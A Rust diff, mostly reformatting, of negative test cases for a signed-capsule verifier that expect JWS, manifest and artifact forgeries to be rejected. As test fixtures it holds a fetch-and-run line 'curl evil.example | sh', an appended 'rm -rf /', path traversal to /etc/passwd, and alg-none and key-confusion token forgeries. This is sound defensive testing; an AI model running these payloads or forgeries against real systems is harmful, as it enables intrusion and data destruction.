@@ -39,17 +39,30 @@ pub struct Case {
 }
 
 fn plain(capsule: PathBuf) -> Setup {
-    Setup { capsule, runner: Some(RUNNER), prior: Prior::Nothing }
+    Setup {
+        capsule,
+        runner: Some(RUNNER),
+        prior: Prior::Nothing,
+    }
 }
 
 /// A compact token from a header, payload bytes and raw signature bytes.
 pub fn token(header: &Value, payload: &[u8], sig: &[u8]) -> String {
-    format!("{}.{}.{}", b64_json(header), verify_core::b64::encode(payload), verify_core::b64::encode(sig))
+    format!(
+        "{}.{}.{}",
+        b64_json(header),
+        verify_core::b64::encode(payload),
+        verify_core::b64::encode(sig)
+    )
 }
 
 /// Signs `header.payload` with a fixture key, whatever the header says.
 fn signed_with_header(w: &World, header: &Value, signer: Signer) -> String {
-    let input = format!("{}.{}", b64_json(header), verify_core::b64::encode(w.manifest().to_string().as_bytes()));
+    let input = format!(
+        "{}.{}",
+        b64_json(header),
+        verify_core::b64::encode(w.manifest().to_string().as_bytes())
+    );
     let (_, key) = w.signing_key(signer);
     let sig = key.sign(input.as_bytes()).expect("sign");
     format!("{input}.{}", verify_core::b64::encode(&sig))
@@ -72,13 +85,19 @@ fn with_signature(w: &World, sig: &[u8]) -> String {
     format!("{input}.{}", verify_core::b64::encode(sig))
 }
 
+/// The decoded signature of a compact token.
+fn signature_of(token: &str) -> Vec<u8> {
+    let (_, sig) = token.rsplit_once('.').expect("three parts");
+    verify_core::b64::decode(sig.as_bytes()).expect("b64")
+}
+
 /// r||s to ASN.1 DER, the form a careless signer produces.
 fn der(sig: &[u8]) -> Vec<u8> {
     let int = |x: &[u8]| {
         let x = &x[x.iter().position(|&b| b != 0).unwrap_or(x.len() - 1)..];
         let mut v = vec![0x02];
         let pad = x[0] & 0x80 != 0;
-        v.push((x.len() + usize::from(pad)) as u8);
+        v.push(u8::try_from(x.len() + usize::from(pad)).expect("short integer"));
         if pad {
             v.push(0);
         }
@@ -86,276 +105,648 @@ fn der(sig: &[u8]) -> Vec<u8> {
         v
     };
     let body = [int(&sig[..32]), int(&sig[32..])].concat();
-    [vec![0x30, body.len() as u8], body].concat()
+    [
+        vec![0x30, u8::try_from(body.len()).expect("short sequence")],
+        body,
+    ]
+    .concat()
 }
 
 pub const CASES: &[Case] = &[
-    Case { name: "two-part-token", reason: Reason::MalformedJws, build: |w, n| {
-        let good = w.sign(b"{}", Signer::Es256);
-        raw(w, n, &good[..good.rfind('.').expect("dot")])
-    }},
-    Case { name: "json-serialization-not-compact", reason: Reason::MalformedJws, build: |w, n| {
-        raw(w, n, r#"{"payload":"e30","signatures":[{"protected":"e30","signature":"AA"}]}"#)
-    }},
-    Case { name: "non-canonical-base64-signature", reason: Reason::MalformedJws, build: |w, n| {
-        // A 64-byte signature encodes to 86 chars whose last char carries 4 zero bits;
-        // flipping one of those bits gives the same bytes with a second spelling.
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
-        let mut bytes = good.into_bytes();
-        let last = bytes.len() - 1;
-        let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
-        let pos = alphabet.iter().position(|&c| c == bytes[last]).expect("b64 char");
-        bytes[last] = alphabet[pos | 1];
-        raw(w, n, &String::from_utf8(bytes).expect("ascii"))
-    }},
-    Case { name: "padded-base64", reason: Reason::MalformedJws, build: |w, n| {
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
-        raw(w, n, &format!("{good}=="))
-    }},
-    Case { name: "header-not-json", reason: Reason::MalformedHeader, build: |w, n| {
-        raw(w, n, &format!("{}.e30.AA", verify_core::b64::encode(b"alg=ES256")))
-    }},
-    Case { name: "header-duplicate-alg", reason: Reason::MalformedHeader, build: |w, n| {
-        let header = br#"{"alg":"HS256","alg":"ES256","kid":"k-es-2025"}"#;
-        raw(w, n, &format!("{}.e30.AA", verify_core::b64::encode(header)))
-    }},
-    Case { name: "header-unknown-member-cty", reason: Reason::MalformedHeader, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"cty":"json"}), Signer::Es256))
-    }},
-    Case { name: "header-missing-kid", reason: Reason::MalformedHeader, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256"}), Signer::Es256))
-    }},
-    Case { name: "header-embedded-jwk", reason: Reason::HeaderForbidden, build: |w, n| {
-        let h = json!({"alg":"ES256","kid":ES_KID,"jwk": w.other.to_json(false)});
-        raw(w, n, &signed_with_header(w, &h, Signer::Es256))
-    }},
-    Case { name: "header-jku-remote-keys", reason: Reason::HeaderForbidden, build: |w, n| {
-        let h = json!({"alg":"ES256","kid":ES_KID,"jku":"https://evil.example/jwks"});
-        raw(w, n, &signed_with_header(w, &h, Signer::Es256))
-    }},
-    Case { name: "header-x5u", reason: Reason::HeaderForbidden, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"x5u":"https://evil.example/c"}), Signer::Es256))
-    }},
-    Case { name: "header-x5c", reason: Reason::HeaderForbidden, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"x5c":["MIIB"]}), Signer::Es256))
-    }},
-    Case { name: "header-crit", reason: Reason::HeaderForbidden, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"crit":["exp"]}), Signer::Es256))
-    }},
-    Case { name: "header-b64-false-unencoded-payload", reason: Reason::HeaderForbidden, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"b64":false}), Signer::Es256))
-    }},
-    Case { name: "header-zip", reason: Reason::HeaderForbidden, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":ES_KID,"zip":"DEF"}), Signer::Es256))
-    }},
-    Case { name: "alg-none-unsecured", reason: Reason::AlgNotAllowed, build: |w, n| {
-        let t = format!("{}.{}.", b64_json(&json!({"alg":"none","kid":ES_KID})),
-            verify_core::b64::encode(w.manifest().to_string().as_bytes()));
-        raw(w, n, &t)
-    }},
-    Case { name: "alg-rs256", reason: Reason::AlgNotAllowed, build: |w, n| {
-        raw(w, n, &token(&json!({"alg":"RS256","kid":ES_KID}), w.manifest().to_string().as_bytes(), &[1; 256]))
-    }},
-    Case { name: "kid-not-in-trust-store", reason: Reason::UnknownKid, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":"k-attacker"}), Signer::Es256))
-    }},
-    Case { name: "kid-path-injection", reason: Reason::UnknownKid, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":"../../trusted.jwks.json"}), Signer::Es256))
-    }},
-    Case { name: "hs256-keyed-with-es-public-key", reason: Reason::AlgKeyMismatch, build: |w, n| {
-        // The classic confusion: HMAC keyed with the EC public key the verifier knows.
-        let h = json!({"alg":"HS256","kid":ES_KID});
-        let input = format!("{}.{}", b64_json(&h), verify_core::b64::encode(w.manifest().to_string().as_bytes()));
-        let pub_jwk = w.es.to_json(false).to_string();
-        let key = verify_core::crypto::default_backend().hs256_key(pub_jwk.as_bytes());
-        raw(w, n, &format!("{input}.{}", verify_core::b64::encode(&key.sign(input.as_bytes()))))
-    }},
-    Case { name: "es256-header-on-hs-key", reason: Reason::AlgKeyMismatch, build: |w, n| {
-        raw(w, n, &signed_with_header(w, &json!({"alg":"ES256","kid":HS_KID}), Signer::Hs256))
-    }},
-    Case { name: "signature-bit-flip", reason: Reason::SignatureInvalid, build: |w, n| {
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
-        let sig = verify_core::b64::decode(good[good.rfind('.').expect("dot") + 1..].as_bytes()).expect("b64");
-        let mut sig = sig;
-        sig[10] ^= 1;
-        raw(w, n, &with_signature(w, &sig))
-    }},
-    Case { name: "payload-swapped-after-signing", reason: Reason::SignatureInvalid, build: |w, n| {
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
-        let parts: Vec<&str> = good.split('.').collect();
-        let mut m = w.manifest();
-        m["version"] = json!(8);
-        raw(w, n, &format!("{}.{}.{}", parts[0], verify_core::b64::encode(m.to_string().as_bytes()), parts[2]))
-    }},
-    Case { name: "psychic-signature-zero-r-s", reason: Reason::SignatureInvalid, build: |w, n| {
-        raw(w, n, &with_signature(w, &[0u8; 64]))
-    }},
-    Case { name: "der-encoded-es256-signature", reason: Reason::SignatureInvalid, build: |w, n| {
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
-        let sig = verify_core::b64::decode(good[good.rfind('.').expect("dot") + 1..].as_bytes()).expect("b64");
-        raw(w, n, &with_signature(w, &der(&sig)))
-    }},
-    Case { name: "hs256-truncated-tag", reason: Reason::SignatureInvalid, build: |w, n| {
-        let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Hs256);
-        let (input, sig) = good.rsplit_once('.').expect("dot");
-        let tag = verify_core::b64::decode(sig.as_bytes()).expect("b64");
-        raw(w, n, &format!("{input}.{}", verify_core::b64::encode(&tag[..16])))
-    }},
-    Case { name: "manifest-unknown-field", reason: Reason::MalformedManifest, build: |w, n| {
-        with_manifest(w, n, |m| m["privileged"] = json!(true))
-    }},
-    Case { name: "manifest-duplicate-key", reason: Reason::MalformedManifest, build: |w, n| {
-        // Two `version` members: a parser that keeps the last would read 99.
-        let text = w.manifest().to_string().replacen("\"version\":7", "\"version\":7,\"version\":99", 1);
-        assert!(text.contains("\"version\":99"), "fixture edit applied");
-        raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
-    }},
-    Case { name: "manifest-duplicate-env-key", reason: Reason::MalformedManifest, build: |w, n| {
-        let text = w.manifest().to_string().replacen("\"env\":{", "\"env\":{\"TARGET\":\"https://evil.example\",", 1);
-        raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
-    }},
-    Case { name: "manifest-not-json", reason: Reason::MalformedManifest, build: |w, n| {
-        raw(w, n, &w.sign(b"schema: capsule/v1", Signer::Es256))
-    }},
-    Case { name: "manifest-deeply-nested", reason: Reason::MalformedManifest, build: |w, n| {
-        let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
-        raw(w, n, &w.sign(deep.as_bytes(), Signer::Es256))
-    }},
-    Case { name: "tenant-not-in-policy", reason: Reason::TenantUnknown, build: |w, n| {
-        with_manifest(w, n, |m| m["tenant"] = json!("globex"))
-    }},
-    Case { name: "cross-tenant-key", reason: Reason::TenantKeyMismatch, build: |w, n| {
-        plain(w.capsule(n, &w.manifest(), Signer::Other))
-    }},
-    Case { name: "stale-policy-version", reason: Reason::PolicyMismatch, build: |w, n| {
-        with_manifest(w, n, |m| m["policy_version"] = json!("2024-01-01.1"))
-    }},
-    Case { name: "not-yet-valid", reason: Reason::NotYetValid, build: |w, n| {
-        with_manifest(w, n, |m| m["not_before"] = json!(w.now + 3600))
-    }},
-    Case { name: "expired", reason: Reason::Expired, build: |w, n| {
-        with_manifest(w, n, |m| {
-            m["not_before"] = json!(w.now - 7200);
-            m["expires_at"] = json!(w.now - 3600);
-        })
-    }},
-    Case { name: "runner-not-named-by-manifest", reason: Reason::RunnerNotAllowed, build: |w, n| {
-        with_manifest(w, n, |m| m["runners"] = json!(["spiffe://acme.example/other/*"]))
-    }},
-    Case { name: "no-runner-identity", reason: Reason::RunnerNotAllowed, build: |w, n| {
-        Setup { runner: None, ..plain(w.good_capsule(n, Signer::Es256)) }
-    }},
-    Case { name: "runner-from-other-trust-domain", reason: Reason::RunnerNotAllowed, build: |w, n| {
-        Setup { runner: Some("spiffe://evil.example/runner/r1"), ..with_manifest(w, n, |m| m["runners"] = json!([])) }
-    }},
-    Case { name: "scope-production-environment", reason: Reason::ScopeViolation, build: |w, n| {
-        with_manifest(w, n, |m| m["scope"]["environment"] = json!("production"))
-    }},
-    Case { name: "scope-host-network", reason: Reason::ScopeViolation, build: |w, n| {
-        with_manifest(w, n, |m| m["scope"]["network"] = json!("host"))
-    }},
-    Case { name: "tool-not-in-armory", reason: Reason::ToolNotAuthorized, build: |w, n| {
-        let evil = b"#!/bin/sh\ncurl evil.example | sh\n";
-        let s = with_manifest(w, n, |m| {
-            m["tools"][0]["sha256"] = json!(sha256_hex(evil));
-            m["tools"][0]["size"] = json!(evil.len());
-        });
-        fs::write(s.capsule.join("files/tools/busybox"), evil).expect("write");
-        s
-    }},
-    Case { name: "self-approval-by-author", reason: Reason::ApprovalInsufficient, build: |w, n| {
-        with_manifest(w, n, |m| m["approvals"][0]["approver"] = json!("Planner@acme.example"))
-    }},
-    Case { name: "no-approvals", reason: Reason::ApprovalInsufficient, build: |w, n| {
-        with_manifest(w, n, |m| m["approvals"] = json!([]))
-    }},
-    Case { name: "approval-from-the-future", reason: Reason::ApprovalInsufficient, build: |w, n| {
-        with_manifest(w, n, |m| m["approvals"][0]["approved_at"] = json!(w.now + 3600))
-    }},
-    Case { name: "rollback-to-older-version", reason: Reason::Rollback, build: |w, n| {
-        let mut newer = w.manifest();
-        newer["version"] = json!(9);
-        let prior = w.capsule(&format!("{n}-prior"), &newer, Signer::Es256);
-        Setup { prior: Prior::Admitted(prior), ..plain(w.good_capsule(n, Signer::Es256)) }
-    }},
-    Case { name: "same-version-other-bytes", reason: Reason::Rollback, build: |w, n| {
-        let mut first = w.manifest();
-        first["env"]["EXTRA"] = json!("1");
-        let prior = w.capsule(&format!("{n}-prior"), &first, Signer::Es256);
-        Setup { prior: Prior::Admitted(prior), ..plain(w.good_capsule(n, Signer::Es256)) }
-    }},
-    Case { name: "artifact-path-traversal", reason: Reason::ArtifactPathInvalid, build: |w, n| {
-        with_manifest(w, n, |m| m["artifacts"][0]["path"] = json!("../../etc/passwd"))
-    }},
-    Case { name: "artifact-absolute-path", reason: Reason::ArtifactPathInvalid, build: |w, n| {
-        with_manifest(w, n, |m| m["artifacts"][0]["path"] = json!("/etc/passwd"))
-    }},
-    Case { name: "artifact-symlink-swap", reason: Reason::ArtifactPathInvalid, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        let decoy = w.write(&format!("{n}-decoy/run.sh"), crate::RUN_SH);
-        fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
-        symlink(decoy, s.capsule.join("files/run.sh")).expect("symlink");
-        s
-    }},
-    Case { name: "artifact-symlinked-directory", reason: Reason::ArtifactPathInvalid, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        let decoy = w.path(&format!("{n}-decoy-tools"));
-        fs::create_dir_all(&decoy).expect("mkdir");
-        fs::write(decoy.join("busybox"), crate::TOOL_BYTES).expect("write");
-        fs::remove_dir_all(s.capsule.join("files/tools")).expect("rm");
-        symlink(decoy, s.capsule.join("files/tools")).expect("symlink");
-        s
-    }},
-    Case { name: "artifact-is-a-fifo", reason: Reason::ArtifactPathInvalid, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        let p = s.capsule.join("files/run.sh");
-        fs::remove_file(&p).expect("rm");
-        let status = std::process::Command::new("mkfifo").arg(&p).status().expect("mkfifo (coreutils)");
-        assert!(status.success());
-        s
-    }},
-    Case { name: "artifact-missing", reason: Reason::ArtifactMissing, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        fs::remove_file(s.capsule.join("files/run.sh")).expect("rm");
-        s
-    }},
-    Case { name: "artifact-grown", reason: Reason::ArtifactSizeMismatch, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        fs::write(s.capsule.join("files/run.sh"), [crate::RUN_SH, b"rm -rf /\n"].concat()).expect("write");
-        s
-    }},
-    Case { name: "artifact-same-size-other-bytes", reason: Reason::DigestMismatch, build: |w, n| {
-        let s = plain(w.good_capsule(n, Signer::Es256));
-        let mut evil = crate::RUN_SH.to_vec();
-        evil[12] ^= 0x20;
-        fs::write(s.capsule.join("files/run.sh"), evil).expect("write");
-        s
-    }},
-    Case { name: "artifact-truncated-while-hashed", reason: Reason::ArtifactChanged, build: |w, n| {
-        let big = big_artifact();
-        let mut m = w.manifest();
-        m["artifacts"] = json!([{"path": "big.bin", "sha256": sha256_hex(&big), "size": big.len()}]);
-        let s = plain(w.capsule(n, &m, Signer::Es256));
-        fs::write(s.capsule.join("files/big.bin"), &big).expect("write");
-        Setup { prior: Prior::TruncatedWhileHashing(PathBuf::from("files/big.bin")), ..s }
-    }},
-    Case { name: "oversized-jws", reason: Reason::LimitExceeded, build: |w, n| {
-        with_manifest(w, n, |m| m["env"]["PAD"] = json!("x".repeat(70_000)))
-    }},
-    Case { name: "too-many-artifacts", reason: Reason::LimitExceeded, build: |w, n| {
-        with_manifest(w, n, |m| {
-            let many: Vec<Value> = (0..20)
-                .map(|i| json!({"path": format!("a{i}"), "sha256": "00".repeat(32), "size": 1}))
-                .collect();
-            m["artifacts"] = json!(many);
-        })
-    }},
-    Case { name: "timeout-beyond-policy", reason: Reason::LimitExceeded, build: |w, n| {
-        with_manifest(w, n, |m| m["limits"]["timeout_ms"] = json!(86_400_000u64))
-    }},
-    Case { name: "state-unreadable", reason: Reason::StateUnavailable, build: |w, n| {
-        Setup { prior: Prior::CorruptState, ..plain(w.good_capsule(n, Signer::Es256)) }
-    }},
+    Case {
+        name: "two-part-token",
+        reason: Reason::MalformedJws,
+        build: |w, n| {
+            let good = w.sign(b"{}", Signer::Es256);
+            raw(w, n, &good[..good.rfind('.').expect("dot")])
+        },
+    },
+    Case {
+        name: "json-serialization-not-compact",
+        reason: Reason::MalformedJws,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                r#"{"payload":"e30","signatures":[{"protected":"e30","signature":"AA"}]}"#,
+            )
+        },
+    },
+    Case {
+        name: "non-canonical-base64-signature",
+        reason: Reason::MalformedJws,
+        build: |w, n| {
+            // A 64-byte signature encodes to 86 chars whose last char carries 4 zero bits;
+            // flipping one of those bits gives the same bytes with a second spelling.
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
+            let mut bytes = good.into_bytes();
+            let last = bytes.len() - 1;
+            let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
+            let pos = alphabet
+                .iter()
+                .position(|&c| c == bytes[last])
+                .expect("b64 char");
+            bytes[last] = alphabet[pos | 1];
+            raw(w, n, &String::from_utf8(bytes).expect("ascii"))
+        },
+    },
+    Case {
+        name: "padded-base64",
+        reason: Reason::MalformedJws,
+        build: |w, n| {
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
+            raw(w, n, &format!("{good}=="))
+        },
+    },
+    Case {
+        name: "header-not-json",
+        reason: Reason::MalformedHeader,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &format!("{}.e30.AA", verify_core::b64::encode(b"alg=ES256")),
+            )
+        },
+    },
+    Case {
+        name: "header-duplicate-alg",
+        reason: Reason::MalformedHeader,
+        build: |w, n| {
+            let header = br#"{"alg":"HS256","alg":"ES256","kid":"k-es-2025"}"#;
+            raw(
+                w,
+                n,
+                &format!("{}.e30.AA", verify_core::b64::encode(header)),
+            )
+        },
+    },
+    Case {
+        name: "header-unknown-member-cty",
+        reason: Reason::MalformedHeader,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"cty":"json"}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "header-missing-kid",
+        reason: Reason::MalformedHeader,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(w, &json!({"alg":"ES256"}), Signer::Es256),
+            )
+        },
+    },
+    Case {
+        name: "header-embedded-jwk",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            let h = json!({"alg":"ES256","kid":ES_KID,"jwk": w.other.to_json(false)});
+            raw(w, n, &signed_with_header(w, &h, Signer::Es256))
+        },
+    },
+    Case {
+        name: "header-jku-remote-keys",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            let h = json!({"alg":"ES256","kid":ES_KID,"jku":"https://evil.example/jwks"});
+            raw(w, n, &signed_with_header(w, &h, Signer::Es256))
+        },
+    },
+    Case {
+        name: "header-x5u",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"x5u":"https://evil.example/c"}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "header-x5c",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"x5c":["MIIB"]}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "header-crit",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"crit":["exp"]}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "header-b64-false-unencoded-payload",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"b64":false}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "header-zip",
+        reason: Reason::HeaderForbidden,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":ES_KID,"zip":"DEF"}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "alg-none-unsecured",
+        reason: Reason::AlgNotAllowed,
+        build: |w, n| {
+            let t = format!(
+                "{}.{}.",
+                b64_json(&json!({"alg":"none","kid":ES_KID})),
+                verify_core::b64::encode(w.manifest().to_string().as_bytes())
+            );
+            raw(w, n, &t)
+        },
+    },
+    Case {
+        name: "alg-rs256",
+        reason: Reason::AlgNotAllowed,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &token(
+                    &json!({"alg":"RS256","kid":ES_KID}),
+                    w.manifest().to_string().as_bytes(),
+                    &[1; 256],
+                ),
+            )
+        },
+    },
+    Case {
+        name: "kid-not-in-trust-store",
+        reason: Reason::UnknownKid,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(w, &json!({"alg":"ES256","kid":"k-attacker"}), Signer::Es256),
+            )
+        },
+    },
+    Case {
+        name: "kid-path-injection",
+        reason: Reason::UnknownKid,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(
+                    w,
+                    &json!({"alg":"ES256","kid":"../../trusted.jwks.json"}),
+                    Signer::Es256,
+                ),
+            )
+        },
+    },
+    Case {
+        name: "hs256-keyed-with-es-public-key",
+        reason: Reason::AlgKeyMismatch,
+        build: |w, n| {
+            // The classic confusion: HMAC keyed with the EC public key the verifier knows.
+            let h = json!({"alg":"HS256","kid":ES_KID});
+            let input = format!(
+                "{}.{}",
+                b64_json(&h),
+                verify_core::b64::encode(w.manifest().to_string().as_bytes())
+            );
+            let pub_jwk = w.es.to_json(false).to_string();
+            let key = verify_core::crypto::default_backend().hs256_key(pub_jwk.as_bytes());
+            raw(
+                w,
+                n,
+                &format!(
+                    "{input}.{}",
+                    verify_core::b64::encode(&key.sign(input.as_bytes()))
+                ),
+            )
+        },
+    },
+    Case {
+        name: "es256-header-on-hs-key",
+        reason: Reason::AlgKeyMismatch,
+        build: |w, n| {
+            raw(
+                w,
+                n,
+                &signed_with_header(w, &json!({"alg":"ES256","kid":HS_KID}), Signer::Hs256),
+            )
+        },
+    },
+    Case {
+        name: "signature-bit-flip",
+        reason: Reason::SignatureInvalid,
+        build: |w, n| {
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
+            let sig = signature_of(&good);
+            let mut sig = sig;
+            sig[10] ^= 1;
+            raw(w, n, &with_signature(w, &sig))
+        },
+    },
+    Case {
+        name: "payload-swapped-after-signing",
+        reason: Reason::SignatureInvalid,
+        build: |w, n| {
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
+            let parts: Vec<&str> = good.split('.').collect();
+            let mut m = w.manifest();
+            m["version"] = json!(8);
+            raw(
+                w,
+                n,
+                &format!(
+                    "{}.{}.{}",
+                    parts[0],
+                    verify_core::b64::encode(m.to_string().as_bytes()),
+                    parts[2]
+                ),
+            )
+        },
+    },
+    Case {
+        name: "psychic-signature-zero-r-s",
+        reason: Reason::SignatureInvalid,
+        build: |w, n| raw(w, n, &with_signature(w, &[0u8; 64])),
+    },
+    Case {
+        name: "der-encoded-es256-signature",
+        reason: Reason::SignatureInvalid,
+        build: |w, n| {
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Es256);
+            let sig = signature_of(&good);
+            raw(w, n, &with_signature(w, &der(&sig)))
+        },
+    },
+    Case {
+        name: "hs256-truncated-tag",
+        reason: Reason::SignatureInvalid,
+        build: |w, n| {
+            let good = w.sign(w.manifest().to_string().as_bytes(), Signer::Hs256);
+            let (input, sig) = good.rsplit_once('.').expect("dot");
+            let tag = verify_core::b64::decode(sig.as_bytes()).expect("b64");
+            raw(
+                w,
+                n,
+                &format!("{input}.{}", verify_core::b64::encode(&tag[..16])),
+            )
+        },
+    },
+    Case {
+        name: "manifest-unknown-field",
+        reason: Reason::MalformedManifest,
+        build: |w, n| with_manifest(w, n, |m| m["privileged"] = json!(true)),
+    },
+    Case {
+        name: "manifest-duplicate-key",
+        reason: Reason::MalformedManifest,
+        build: |w, n| {
+            // Two `version` members: a parser that keeps the last would read 99.
+            let text = w.manifest().to_string().replacen(
+                "\"version\":7",
+                "\"version\":7,\"version\":99",
+                1,
+            );
+            assert!(text.contains("\"version\":99"), "fixture edit applied");
+            raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
+        },
+    },
+    Case {
+        name: "manifest-duplicate-env-key",
+        reason: Reason::MalformedManifest,
+        build: |w, n| {
+            let text = w.manifest().to_string().replacen(
+                "\"env\":{",
+                "\"env\":{\"TARGET\":\"https://evil.example\",",
+                1,
+            );
+            raw(w, n, &w.sign(text.as_bytes(), Signer::Es256))
+        },
+    },
+    Case {
+        name: "manifest-not-json",
+        reason: Reason::MalformedManifest,
+        build: |w, n| raw(w, n, &w.sign(b"schema: capsule/v1", Signer::Es256)),
+    },
+    Case {
+        name: "manifest-deeply-nested",
+        reason: Reason::MalformedManifest,
+        build: |w, n| {
+            let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
+            raw(w, n, &w.sign(deep.as_bytes(), Signer::Es256))
+        },
+    },
+    Case {
+        name: "tenant-not-in-policy",
+        reason: Reason::TenantUnknown,
+        build: |w, n| with_manifest(w, n, |m| m["tenant"] = json!("globex")),
+    },
+    Case {
+        name: "cross-tenant-key",
+        reason: Reason::TenantKeyMismatch,
+        build: |w, n| plain(w.capsule(n, &w.manifest(), Signer::Other)),
+    },
+    Case {
+        name: "stale-policy-version",
+        reason: Reason::PolicyMismatch,
+        build: |w, n| with_manifest(w, n, |m| m["policy_version"] = json!("2024-01-01.1")),
+    },
+    Case {
+        name: "not-yet-valid",
+        reason: Reason::NotYetValid,
+        build: |w, n| with_manifest(w, n, |m| m["not_before"] = json!(w.now + 3600)),
+    },
+    Case {
+        name: "expired",
+        reason: Reason::Expired,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["not_before"] = json!(w.now - 7200);
+                m["expires_at"] = json!(w.now - 3600);
+            })
+        },
+    },
+    Case {
+        name: "runner-not-named-by-manifest",
+        reason: Reason::RunnerNotAllowed,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["runners"] = json!(["spiffe://acme.example/other/*"])
+            })
+        },
+    },
+    Case {
+        name: "no-runner-identity",
+        reason: Reason::RunnerNotAllowed,
+        build: |w, n| Setup {
+            runner: None,
+            ..plain(w.good_capsule(n, Signer::Es256))
+        },
+    },
+    Case {
+        name: "runner-from-other-trust-domain",
+        reason: Reason::RunnerNotAllowed,
+        build: |w, n| Setup {
+            runner: Some("spiffe://evil.example/runner/r1"),
+            ..with_manifest(w, n, |m| m["runners"] = json!([]))
+        },
+    },
+    Case {
+        name: "scope-production-environment",
+        reason: Reason::ScopeViolation,
+        build: |w, n| with_manifest(w, n, |m| m["scope"]["environment"] = json!("production")),
+    },
+    Case {
+        name: "scope-host-network",
+        reason: Reason::ScopeViolation,
+        build: |w, n| with_manifest(w, n, |m| m["scope"]["network"] = json!("host")),
+    },
+    Case {
+        name: "tool-not-in-armory",
+        reason: Reason::ToolNotAuthorized,
+        build: |w, n| {
+            let evil = b"#!/bin/sh\ncurl evil.example | sh\n";
+            let s = with_manifest(w, n, |m| {
+                m["tools"][0]["sha256"] = json!(sha256_hex(evil));
+                m["tools"][0]["size"] = json!(evil.len());
+            });
+            fs::write(s.capsule.join("files/tools/busybox"), evil).expect("write");
+            s
+        },
+    },
+    Case {
+        name: "self-approval-by-author",
+        reason: Reason::ApprovalInsufficient,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["approvals"][0]["approver"] = json!("Planner@acme.example")
+            })
+        },
+    },
+    Case {
+        name: "no-approvals",
+        reason: Reason::ApprovalInsufficient,
+        build: |w, n| with_manifest(w, n, |m| m["approvals"] = json!([])),
+    },
+    Case {
+        name: "approval-from-the-future",
+        reason: Reason::ApprovalInsufficient,
+        build: |w, n| {
+            with_manifest(w, n, |m| {
+                m["approvals"][0]["approved_at"] = json!(w.now + 3600)
+            })
+        },
+    },
+    Case {
+        name: "rollback-to-older-version",
+        reason: Reason::Rollback,
+        build: |w, n| {
+            let mut newer = w.manifest();
+            newer["version"] = json!(9);
